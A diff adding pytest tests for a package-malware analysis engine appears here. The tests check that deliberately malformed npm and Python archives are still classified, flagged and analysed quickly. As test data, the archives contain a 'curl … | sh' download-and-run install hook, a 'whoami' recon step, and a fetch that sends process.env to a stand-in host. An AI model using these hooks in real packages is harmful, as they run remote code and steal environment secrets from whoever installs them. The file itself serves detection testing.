@@ -1,0 +1,125 @@
+"""Archives built to break the analysis next to a payload: whatever a parser or a rule
+does with them, the archive is still classified, no rule fails, and the payload is
+flagged."""
+
+from __future__ import annotations
+
+import json
+import random
+import string
+import time
+
+import pytest
+
+from tests.analysis.builders import npm_tarball, sdist, tar_gz
+from threatfeed.analysis import Engine
+from threatfeed.analysis.model import Analysis
+
+DOWNLOAD_AND_RUN = "curl -s https://x.example.net/i | sh"
+HOOK = {"postinstall": DOWNLOAD_AND_RUN}
+
+
+def assert_analysed(analysis: Analysis) -> None:
+    """Classified, every rule ran, and the payload next to the hostile input is flagged."""
+    assert not [e for e in analysis.errors if "cannot classify" in e or "_rule: " in e]
+    assert analysis.flagged
+
+
+def test_a_manifest_number_past_pythons_digit_limit_still_shows_its_hooks(
+    engine: Engine,
+) -> None:
+    """Node reads any number (as a double); Python's ``int`` refuses over 4300 digits."""
+    manifest = (
+        '{"name": "left-padder", "version": "1.2.3", "x": ' + "9" * 5000 + ', "scripts": '
+        '{"postinstall": "' + DOWNLOAD_AND_RUN + '"}}'
+    )
+    analysis = engine.analyze(tar_gz({"package/package.json": manifest, "package/index.js": "1;"}))
+    assert analysis.errors == ()
+    assert_analysed(analysis)
+
+
+def test_a_pyproject_integer_past_pythons_digit_limit_is_no_error(engine: Engine) -> None:
+    """tomllib raises a ValueError of its own there; pip cannot read the file either."""
+    pyproject = "[build-system]\nbackend-path = ['.']\nx = " + "9" * 5000 + "\n"
+    setup_py = f"import os\nos.system('{DOWNLOAD_AND_RUN}')\n"
+    analysis = engine.analyze(sdist({"pyproject.toml": pyproject}, setup_py=setup_py))
+    assert analysis.errors == ()
+    assert_analysed(analysis)
+
+
+def test_a_hook_stacking_shells_past_the_recursion_limit_fails_no_rule(engine: Engine) -> None:
+    """Each ``sh -c`` hands the rest to the next shell: read in a loop, not a call each."""
+    command = "sh -c " * 3000 + "whoami; " + DOWNLOAD_AND_RUN
+    analysis = engine.analyze(npm_tarball(scripts={"postinstall": command}))
+    assert analysis.errors == ()
+    assert_analysed(analysis)
+    assert analysis.indicators["install_time_program_launch_rule"][0]["kind"] == "recon"
+
+
+def _cpu_seconds(engine: Engine, archive: bytes) -> tuple[Analysis, float]:
+    start = time.process_time()
+    analysis = engine.analyze(archive)
+    return analysis, time.process_time() - start
+
+
+@pytest.mark.parametrize(
+    ("name", "config"),
+    [
+        (
+            "pyproject.toml",
+            f'[build-system]\nbuild-backend = "{"a." * 5000}b"\nbackend-path = ["."]\n',
+        ),
+        ("setup.cfg", f"[options]\ncmdclass =\n    build = {'a.' * 5000}Build\n"),
+    ],
+)
+def test_a_build_module_of_thousands_of_parts_costs_no_minutes(
+    engine: Engine, name: str, config: str
+) -> None:
+    """No import runs a module that deep; each prefix of its path joined anew cost 15 s."""
+    setup_py = f"import os\nos.system('{DOWNLOAD_AND_RUN}')\n"
+    analysis, seconds = _cpu_seconds(engine, sdist({name: config}, setup_py=setup_py))
+    assert_analysed(analysis)
+    assert seconds < 1.5
+
+
+def test_an_install_script_of_thousands_of_environment_aliases_costs_no_minutes(
+    engine: Engine,
+) -> None:
+    """Each alias searched the whole file for its serialiser: quadratic (6 s here)."""
+    script = (
+        "const { exec } = require('child_process');\n"
+        + "".join(f"var e{i} = process.env;\n" for i in range(6000))
+        + f"exec('{DOWNLOAD_AND_RUN}');\n"
+        + "fetch('https://x.example.net/', {body: JSON.stringify(e1)});\n"
+    )
+    archive = npm_tarball({"install.js": script}, scripts={"postinstall": "node install.js"})
+    analysis, seconds = _cpu_seconds(engine, archive)
+    assert_analysed(analysis)
+    assert seconds < 1.5
+
+
+def test_a_hook_naming_one_file_thousands_of_times_costs_no_minutes(engine: Engine) -> None:
+    """Each target was looked for among every file: targets times files (7 s here)."""
+    files = {f"docs/page{i}.txt": "x" for i in range(2000)}
+    command = DOWNLOAD_AND_RUN + "; " + "node index.js; " * 8000
+    analysis, seconds = _cpu_seconds(engine, npm_tarball(files, scripts={"postinstall": command}))
+    assert_analysed(analysis)
+    assert seconds < 1.5
+
+
+def test_thousands_of_dependencies_naming_one_bundled_manifest_cost_no_minutes(
+    engine: Engine,
+) -> None:
+    """The manifest was read once per dependency (12 s here); random text so that it is
+    no compression bomb."""
+    rnd = random.Random(0)
+    padding = ["".join(rnd.choices(string.ascii_letters, k=8)) for _ in range(100_000)]
+    bundled = json.dumps({"scripts": {"postinstall": DOWNLOAD_AND_RUN}, "padding": padding})
+    dependencies = {f"dependency-{i}": "file:vendor" for i in range(1000)}
+    archive = npm_tarball(
+        {"vendor/package.json": bundled}, scripts=HOOK, manifest={"dependencies": dependencies}
+    )
+    analysis, seconds = _cpu_seconds(engine, archive)
+    assert_analysed(analysis)
+    assert DOWNLOAD_AND_RUN in analysis.indicators["npm_hooks_rule"]
+    assert seconds < 1.5
